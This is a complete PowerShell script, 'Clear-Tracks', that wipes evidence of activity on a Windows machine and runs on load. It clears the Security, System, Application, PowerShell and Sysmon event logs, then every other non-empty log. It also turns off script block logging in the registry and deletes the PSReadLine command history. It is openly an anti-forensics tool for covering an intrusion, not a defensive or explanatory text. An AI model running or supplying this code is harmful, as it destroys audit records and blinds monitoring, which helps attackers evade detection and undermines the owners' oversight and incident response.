function Clear-Tracks {
    [CmdletBinding()]
    param(
        [string[]]$LogName = @('Security', 'System', 'Application', 'Windows PowerShell')
    )

    foreach ($log in $LogName) {
        wevtutil.exe cl $log
    }

    wevtutil cl "Microsoft-Windows-PowerShell/Operational"
    Clear-EventLog -LogName 'Windows PowerShell'

    $session = [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession
    $session.ClearLog('Microsoft-Windows-Sysmon/Operational')

    Get-WinEvent -ListLog * -ErrorAction SilentlyContinue |
        Where-Object { $_.RecordCount -gt 0 } |
        ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }

    # no more script block logging for this box
    $sbl = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging'
    Set-ItemProperty -Path $sbl -Name 'EnableScriptBlockLogging' -Value 0 -Force

    Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
}

Clear-Tracks
